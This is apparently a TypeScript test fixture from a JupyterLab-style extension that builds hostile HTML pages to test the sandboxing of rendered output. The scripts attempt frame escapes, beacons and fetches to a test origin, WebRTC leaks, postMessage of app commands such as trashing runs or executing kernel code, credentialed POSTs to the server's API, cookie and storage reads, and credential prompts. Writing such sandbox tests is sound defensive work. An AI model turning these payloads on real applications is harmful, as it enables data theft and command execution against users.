/** HTML whose scripts do harm where a reader allows the file to run them. */
import { ATTACK, DATA_PAGE, type Files, script, TELLS_ITSELF } from './aims';

export function hostileScripts(origin: string): Files {
  const host = new URL(origin).host;
  return {
    [TELLS_ITSELF]: tellsItself(origin),
    'html/location.html': script(
      `setTimeout(() => { location = '${origin}/location' }); location.href = '${DATA_PAGE}'`
    ),
    'html/top_location.html': script(
      `for (const go of [() => { top.location = '${origin}/top' }, () => top.location.replace('${origin}/replace'), () => { parent.location = '${origin}/parent' }, () => open('${origin}/open', '_top'), () => open('${origin}/self', '_parent')]) try { go() } catch {}`
    ),
    'html/popups.html': script(
      `for (const name of ['', '_blank', 'jupyterlab', 'noopener']) try { open('${origin}/popup', name, name && 'noopener') } catch {}; try { showModalDialog('${origin}/modal') } catch {}; const a = document.createElement('a'); a.href = '${origin}/blank'; a.target = '_blank'; document.body.append(a); a.click()`
    ),
    'html/history.html': script(
      `try { history.back(); history.go(-2) } catch {}; try { history.pushState(1, '', '/logout?canary') } catch {}; try { navigation.navigate('${origin}/navigation') } catch {}; try { document.domain = 'localhost' } catch {}`
    ),
    'html/name.html': script(
      `name = 'canary'; parent.name = 'canary'; try { top.name = 'canary' } catch {}; try { parent.frames[0].name = 'canary' } catch {}`
    ),
    'html/workers.html': script(
      `const code = "new WebSocket('ws://${host}/worker'); fetch('${origin}/worker')"; for (const make of [() => new Worker('data:text/javascript,' + encodeURIComponent(code)), () => new Worker(URL.createObjectURL(new Blob([code]))), () => new SharedWorker('data:text/javascript,' + encodeURIComponent(code)), () => navigator.serviceWorker.register('/canary.js'), () => CSS.paintWorklet.addModule('${origin}/worklet.js'), () => new AudioContext().audioWorklet.addModule('${origin}/audio.js')]) try { make()?.catch?.(() => {}) } catch {}`
    ),
    'html/sockets.html': script(
      `for (const make of [() => new WebSocket('ws://${host}/socket'), () => new EventSource('${origin}/events'), () => new WebTransport('https://${host}/transport'), () => new WebSocketStream('ws://${host}/stream')]) try { make() } catch {}`
    ),
    'html/beacons.html': script(
      `navigator.sendBeacon('${origin}/beacon', 'x'); new Image().src = '${origin}/image'; new Audio('${origin}/audio').load(); fetch('${origin}/keepalive', { keepalive: true, mode: 'no-cors' }).catch(() => {}); const x = new XMLHttpRequest(); try { x.open('GET', '${origin}/sync', false); x.send() } catch {}; try { fetchLater('${origin}/later', { activateAfter: 0 }) } catch {}`
    ),
    'html/at_the_end.html': script(
      `for (const type of ['pagehide', 'visibilitychange', 'unload', 'beforeunload']) addEventListener(type, () => { navigator.sendBeacon('${origin}/' + type); ${ATTACK} }); onbeforeunload = () => 'stay'`
    ),
    'html/webrtc.html': script(
      `for (const url of ['stun:${host}', 'turn:${host}?transport=tcp', 'turn:${host}']) try { const c = new RTCPeerConnection({ iceServers: [{ urls: url, username: 'u', credential: 'p' }] }); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o)) } catch {}`
    ),
    'html/webrtc_in_frame.html': script(
      `const f = document.createElement('iframe'); f.srcdoc = "<script>const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] }); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))<\\/script>"; document.body.append(f); try { const c = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] }); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o)) } catch {}`
    ),
    'html/late_links.html': script(
      `for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'stylesheet']) { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = '${origin}/late-' + rel; document.head.append(l) }; const s = document.createElement('script'); s.type = 'speculationrules'; s.text = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${origin}/late-rules'] }] }); document.head.append(s)`
    ),
    'html/late_frames.html': script(
      `for (const src of ['${origin}/late', 'about:blank', 'blob:null/x', '${DATA_PAGE}']) { const f = document.createElement('iframe'); f.src = src; document.body.append(f) }; const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["<script>fetch('${origin}/blob'); ${ATTACK}<\\/script>"], { type: 'text/html' })); document.body.append(f)`
    ),
    'html/late_refresh.html': script(
      `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${origin}/late-refresh'; document.head.append(m); document.querySelectorAll('meta').forEach(node => node.remove()); new Image().src = '${origin}/without-policy'`
    ),
    'html/written.html': script(
      `document.open(); document.write('<img src="${origin}/written.png"><script>${ATTACK}<\\/script><iframe src="${origin}/written"></iframe>'); document.close()`
    ),
    'html/messages.html': script(
      `for (const data of [{ type: 'execute', command: 'application:close-all' }, { jupyterapp: 1, command: 'mlops:trash-runs', args: {} }, { channel: 'shell', header: { msg_type: 'execute_request' }, content: { code: 'canary' } }, 'canary', new Error('canary')]) try { top.postMessage(data, '*'); parent.parent.postMessage(data, '*') } catch {}; try { new BroadcastChannel('jupyterlab').postMessage('canary') } catch {}`
    ),
    'html/dialogs.html': script(
      `for (const ask of [() => alert('canary'), () => confirm('canary'), () => prompt('Token?'), () => print(), () => document.documentElement.requestFullscreen(), () => Notification.requestPermission(), () => navigator.clipboard.readText(), () => navigator.clipboard.writeText('canary'), () => navigator.geolocation.getCurrentPosition(() => {}), () => navigator.mediaDevices.getUserMedia({ video: true }), () => navigator.credentials.get({ password: true }), () => showOpenFilePicker()]) try { ask()?.catch?.(() => {}) } catch {}`
    ),
    'html/downloads.html': script(
      `const a = document.createElement('a'); a.download = 'canary.exe'; a.href = 'data:application/octet-stream,x'; document.body.append(a); a.click(); a.href = URL.createObjectURL(new Blob(['x'])); a.click(); try { location = 'data:application/octet-stream,x' } catch {}`
    ),
    'html/modules.html': `<p>text</p><script type="importmap">{"imports": {"x": "${origin}/map.js"}}</script><script type="module">import('x').catch(() => {}); import('${origin}/dynamic.js').catch(() => {}); import('data:text/javascript,top.canary=1').catch(() => {})</script><script type="module" src="${origin}/module.js"></script>`,
    'html/constructors.html': script(
      `for (const code of ['top.canary = 1', 'parent.parent.canary = 1', 'window.parent.document.title = "canary"']) { try { new Function(code)() } catch {}; try { eval(code) } catch {}; try { [].constructor.constructor(code)() } catch {}; setTimeout(code) }`
    ),
    'html/own_server_script.html': script(
      `for (const path of ['/mlops/api/runs?canary', '/api/contents?canary', 'http://localhost:' + (document.baseURI.split(':')[2] ?? '80/').split('/')[0] + '/api/kernels?canary']) { try { fetch(path, { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' }).catch(() => {}) } catch {}; new Image().src = path }`
    ),
    'html/busy.html': script(
      `for (let i = 0; i < 2000; i++) { top.postMessage(i, '*'); document.body.append(document.createElement('canvas')) }`
    )
  };
}

function tellsItself(origin: string): string {
  return `<p>text</p><script>
(async () => {
  const attempts = {
    'write to parent': () => { parent.parent.canary = 1; },
    'write to top': () => { top.canary = 1; },
    'page of JupyterLab': () => top.document.title,
    'address of JupyterLab': () => top.location.href,
    'commands of JupyterLab': () => top.jupyterapp.commands,
    'settings in the page': () => top.document.getElementById('jupyter-config-data').textContent,
    'frame above': () => parent.document.body,
    'cookie': () => document.cookie,
    'cookie of JupyterLab': () => top.document.cookie,
    'set a cookie': () => { document.cookie = 'canary=1'; },
    'cookie store': () => cookieStore.getAll(),
    'local storage': () => localStorage.setItem('canary', '1'),
    'session storage': () => sessionStorage.setItem('canary', '1'),
    'storage of JupyterLab': () => top.localStorage.length,
    'database': () => indexedDB.open('canary'),
    'caches': () => caches.open('canary'),
    'files': () => navigator.storage.getDirectory(),
    'locks': () => navigator.locks.query(),
    'fetch': () => fetch('${origin}/fetch', { mode: 'no-cors' }),
    'own server': () => fetch('/mlops/api/status?canary', { credentials: 'include' })
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    let outcome = 'reached';
    try { await attempt(); } catch { outcome = 'refused'; }
    top.postMessage({ hostile: name + ': ' + outcome }, '*');
  }
  if (frameElement !== null || opener !== null || origin !== 'null') {
    top.postMessage({ hostile: 'origin: reached' }, '*');
  }
  top.postMessage({ hostile: 'end' }, '*');
})();
</script>`;
}
